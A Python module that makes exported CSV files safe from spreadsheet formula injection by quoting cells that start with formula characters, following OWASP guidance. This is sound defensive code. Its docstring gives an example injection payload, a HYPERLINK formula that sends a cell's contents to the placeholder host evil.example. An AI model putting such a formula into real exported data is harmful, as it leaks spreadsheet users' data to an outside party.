"""CSV files that are safe to open in a spreadsheet.

Every CSV spfcomms writes (the audit's ``issues.csv`` and ``items.csv``, ``metrics show
--csv``) goes through ``csv_text``, which neutralises formula injection the way
OWASP's "CSV Injection" guidance recommends: a text cell that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is prefixed with a single quote, so Excel,
LibreOffice and Google Sheets show it as text instead of running it as a formula. A
title such as ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` arrives in the
spreadsheet exactly as written, with a ``'`` in front. Numbers (``-43``, ``+1.5``) are
left as they are: they are not formulas.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may read as the start of a formula (OWASP's list)."""
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?\Z")


def safe_cell(value: object) -> object:
    """``value`` as a spreadsheet will show it, never as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if not _PLAIN_NUMBER.match(value):
            return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A CSV document (``\\n`` line ends) with every cell passed through ``safe_cell``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([safe_cell(name) for name in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return buffer.getvalue()
